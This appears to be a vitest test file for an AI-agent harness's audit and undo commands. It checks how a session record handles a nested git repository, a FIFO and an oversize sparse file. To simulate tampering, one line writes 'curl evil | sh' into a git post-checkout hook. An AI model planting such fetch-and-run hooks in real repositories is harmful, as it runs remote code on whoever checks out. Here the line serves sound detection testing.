import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, statSync } from "node:fs";
import { mkdir, truncate, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  childEnv,
  ensureBuilt,
  expectExit,
  finished,
  harness,
  jsonScript,
  jsonSummary,
  ofType,
  readJournal,
  removeTempDirs,
  startHarness,
  tempDir,
  workspaceWith,
} from "./helpers.js";

/*
 * The record sees every byte a session can change. A sandboxed shell call makes a repository and
 * a `.harness` below the root, a FIFO, and a sparse file over the record's 2 GiB limit: each is
 * recorded (the git metadata and state with their content, the FIFO by its kind, the big file by
 * its size), `harness audit` reports what happens to them outside the record and never calls
 * entries it cannot read "nothing changed", and `harness undo` refuses, saying why, to remove or
 * restore what the record holds only by kind or size.
 */

beforeAll(() => ensureBuilt());
afterAll(removeTempDirs);

const GIB = 1024 ** 3;

async function session() {
  const workspace = await workspaceWith({ "notes.txt": "notes\n" });
  const config = join(await tempDir("harness-config-"), "config.json");
  await writeFile(config, "{}\n");
  const env = { ...childEnv(), HARNESS_CONFIG: config };
  const command = [
    "mkdir -p sub/.git/hooks sub/.harness",
    "printf 'echo hooked' > sub/.git/hooks/post-checkout",
    "printf 'state' > sub/.harness/state.json",
    "mkfifo pipe",
    "truncate -s 3G big.bin",
  ].join(" && ");
  const script = await jsonScript([
    { calls: [{ id: "s1", name: "shell", arguments: { command } }] },
    { text: "done" },
  ]);
  const child = startHarness(
    [
      "run",
      "--script",
      script,
      "--workspace",
      workspace,
      "--shell",
      "allow",
      "--sandbox",
      "workspace-write",
      "--json",
      "go",
    ],
    { env },
  );
  const result = await finished(child);
  expectExit(result, 0);
  const id = String(jsonSummary(result).session);
  return { workspace, id, records: await readJournal(workspace, id), env };
}

function audit(workspace: string, id: string) {
  return harness(["audit", id, "-w", workspace, "--json"]);
}

describe("what a session makes that the record cannot read", () => {
  it("is recorded as such, audited, and never undone blindly", async () => {
    const { workspace, id, records } = await session();
    const change = ofType(records, "workspace.changed").find((r) => r.data.call_id === "s1")?.data as {
      created: { path: string; after: unknown }[];
    };
    const created = Object.fromEntries(change.created.map((c) => [c.path, c.after]));
    expect(created).toMatchObject({
      sub: { dir: true },
      "sub/.git": { dir: true },
      "sub/.git/hooks": { dir: true },
      "sub/.git/hooks/post-checkout": { size: 11, exec: false },
      "sub/.harness": { dir: true },
      "sub/.harness/state.json": { size: 5, exec: false },
      pipe: { special: "fifo" },
      "big.bin": { oversize: true, size: 3 * GIB, exec: false },
    });

    // Right after the session: the record matches, but the two unread entries are not vouched for.
    const clean = await audit(workspace, id);
    expectExit(clean, 0);
    expect(JSON.parse(clean.stdout)).toMatchObject({
      outside: { created: [], modified: [], deleted: [] },
      unverified: [
        { path: "big.bin", kind: "oversize", size: 3 * GIB },
        { path: "pipe", kind: "fifo" },
      ],
    });
    const human = await harness(["audit", id, "-w", workspace]);
    expect(human.stdout).not.toContain("nothing changed outside it");
    expect(human.stdout).toContain("unverified big.bin");

    // Changed outside the record: a nested repository's hook, the big file's size, a FIFO swapped
    // for a socket-less file, and a new FIFO.
    await writeFile(join(workspace, "sub/.git/hooks/post-checkout"), "curl evil | sh");
    await truncate(join(workspace, "big.bin"), 4 * GIB);
    execFileSync("mkfifo", [join(workspace, "pipe2")]);
    await mkdir(join(workspace, "other/.harness"), { recursive: true });
    const dirty = await audit(workspace, id);
    expectExit(dirty, 1);
    expect(JSON.parse(dirty.stdout).outside).toEqual({
      created: ["other", "other/.harness", "pipe2"],
      modified: ["big.bin", "sub/.git/hooks/post-checkout"],
      deleted: [],
    });
  });

  it("undo refuses, with the reason, to delete or restore what the record holds by kind or size only", async () => {
    const { workspace, id } = await session();
    const dry = await harness(["undo", id, "-w", workspace, "--dry-run"]);
    expectExit(dry, 1);
    expect(dry.stdout).toMatch(/conflict {2}big\.bin: the session left a file of 3221225472 bytes/);
    expect(dry.stdout).toMatch(
      /conflict {2}pipe: the session left a fifo here, which the record holds by kind only/,
    );
    const undo = await harness(["undo", id, "-w", workspace, "--json"]);
    expectExit(undo, 1);
    const report = JSON.parse(undo.stdout) as { conflicts: { path: string; reason: string }[] };
    expect(report.conflicts.map((c) => c.path).sort()).toEqual([
      "big.bin",
      "pipe",
      // Not empty: the repository below it stays.
      "sub",
      // harness never writes git metadata, even a repository the session made.
      "sub/.git",
      "sub/.git/hooks",
      "sub/.git/hooks/post-checkout",
    ]);
    expect(lstatSync(join(workspace, "pipe")).isFIFO()).toBe(true);
    expect(statSync(join(workspace, "big.bin")).size).toBe(3 * GIB);
    expect(existsSync(join(workspace, "sub/.git/hooks/post-checkout"))).toBe(true);
    // What it could undo, it did: the nested state directory is gone.
    expect(existsSync(join(workspace, "sub/.harness"))).toBe(false);
  });
});
